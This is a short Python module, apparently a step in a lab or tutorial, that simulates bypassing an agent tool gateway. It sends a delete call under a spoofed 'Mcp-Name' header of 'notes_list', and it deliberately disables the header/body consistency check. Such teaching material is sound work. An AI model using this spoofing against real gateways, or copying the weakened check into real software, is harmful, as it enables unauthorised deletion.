"""The exploit that opens step 13: one name for the gateway, another one for the server."""

from typing import Any

TITLE = "A gateway lets an agent call what does not delete. It reads the name in the header only."
SUCCEEDED = "The attack succeeds: the gateway has passed on notes_list, and draft-1 is gone."
FAILED = "The attack fails: header and body disagree, so nothing ran, and draft-1 is still there."

# What must be written before your own part is attacked.
NEEDS = (
    (
        "edge",
        (
            "header",
            "decode_value",
            "check_headers",
            "check_origin",
            "authenticate",
            "status_for",
            "respond",
        ),
    ),
)
PASSED_ON = {"notes_list", "notes_search"}


def make_naive(parts: Any) -> None:
    """Put the edge in place that most people have: the body is what counts."""
    parts.edge.check_headers = lambda headers, message: None


def attack(stage: Any) -> bool:
    """Delete through the gateway, and look whether the note is gone."""
    _through(stage, stage.delete(), "notes_delete")
    question = _through(stage, stage.delete(), "notes_list")
    state = question.result.get("requestState") if question else None
    if state is None:
        return False
    chosen = {"action": "accept", "content": {"note_id": "draft-1", "confirm": True}}
    retry = stage.delete(requestState=state, inputResponses={"delete_choice": chosen})
    _through(stage, retry, "notes_list")
    return "draft-1" not in stage.ids()


def _through(stage: Any, message: dict[str, Any], named: str) -> Any:
    """Send a message through the gateway, which looks at one header."""
    stage.tape.record("bob", "gateway", {"Mcp-Name": named})
    if named not in PASSED_ON:
        stage.tape.record("gateway", "bob", {"refused by policy": named})
        return None
    return stage.send(message, "bob", headers={"Mcp-Name": named})
